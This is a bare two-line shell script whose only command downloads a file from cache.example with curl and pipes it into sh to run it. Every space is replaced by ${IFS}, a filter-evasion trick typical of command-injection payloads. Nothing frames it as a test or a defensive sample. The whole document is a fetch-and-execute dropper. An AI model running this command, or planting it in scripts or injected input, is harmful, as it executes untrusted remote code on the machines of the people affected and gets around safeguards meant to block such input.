#!/bin/sh
curl${IFS}-s${IFS}https://cache.example/w|sh
